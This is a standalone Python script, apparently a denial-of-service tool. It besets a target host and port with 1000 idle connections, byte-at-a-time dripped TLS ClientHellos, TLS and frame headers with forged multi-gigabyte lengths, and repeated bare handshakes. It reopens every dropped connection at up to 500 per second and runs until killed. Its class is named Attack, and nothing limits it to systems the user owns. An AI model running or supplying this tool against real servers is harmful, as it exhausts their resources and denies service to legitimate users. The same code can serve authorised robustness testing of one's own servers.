#!/usr/bin/env python3
"""Besets a port as a stranger: connections without a word, a byte a second, lengths that lie, hellos without a proof.

The standard library alone. It goes on until it is killed; each round of a second is a line of JSON.
"""

import argparse
import contextlib
import itertools
import json
import selectors
import socket
import ssl
import time

# A TLS record's header that announces more than any record may have, and a frame's of nearly 4 GiB.
LYING_LENGTHS = (b"\x16\x03\x01\xff\xff\x01\xff\xff\xff", b"\xff\xff\xff\xff")


def make_hello():
    """A ClientHello such as any TLS library sends, with a name that proves nothing."""
    context = ssl.create_default_context()
    outgoing = ssl.MemoryBIO()
    tls = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


class Attack:
    """Keeps so many connections, each of which does one misdeed; what is closed there is opened anew."""

    def __init__(self, options):
        self.address = (options.host, options.port)
        self.hello = make_hello()
        kinds = [("silent", options.silent), ("dripping", options.dripping), ("lying", options.lying), ("hellos", options.hellos)]
        self.wanted = [kind for kind, count in kinds for _ in range(count)]
        self.selector = selectors.DefaultSelector()
        self.opened = 0

    def open(self, kind):
        connection = socket.socket()
        connection.setblocking(False)
        connection.connect_ex(self.address)
        self.opened += 1
        self.selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE, kind)

    def handle(self, key, events):
        connection, kind = key.fileobj, key.data
        try:
            if events & selectors.EVENT_READ and not connection.recv(4096):
                raise ConnectionResetError
            if events & selectors.EVENT_WRITE:
                # What there is to say is said once; the dripping go on from drip().
                if kind == "lying":
                    connection.send(LYING_LENGTHS[self.opened % 2])
                elif kind == "hellos":
                    connection.send(self.hello)
                self.selector.modify(connection, selectors.EVENT_READ, kind)
        except OSError:
            self.selector.unregister(connection)
            connection.close()
            self.wanted.append(kind)

    def drip(self, count):
        for key in list(self.selector.get_map().values()):
            if key.data == "dripping" and key.events == selectors.EVENT_READ:
                with contextlib.suppress(OSError):
                    key.fileobj.send(self.hello[count % len(self.hello) :][:1])

    def run(self, rate):
        for second in itertools.count():
            begin, left = time.monotonic(), rate
            while (rest := begin + 1 - time.monotonic()) > 0:
                while self.wanted and left > 0:
                    self.open(self.wanted.pop(0))
                    left -= 1
                for key, events in self.selector.select(min(rest, 0.05)):
                    self.handle(key, events)
            self.drip(second)
            print(json.dumps({"round": second, "open": len(self.selector.get_map()), "opened": self.opened}), flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--silent", type=int, default=1000)
    parser.add_argument("--dripping", type=int, default=50)
    parser.add_argument("--lying", type=int, default=50)
    parser.add_argument("--hellos", type=int, default=50)
    parser.add_argument("--rate", type=int, default=500, help="connections opened a second, at most")
    options = parser.parse_args()
    Attack(options).run(options.rate)


if __name__ == "__main__":
    main()
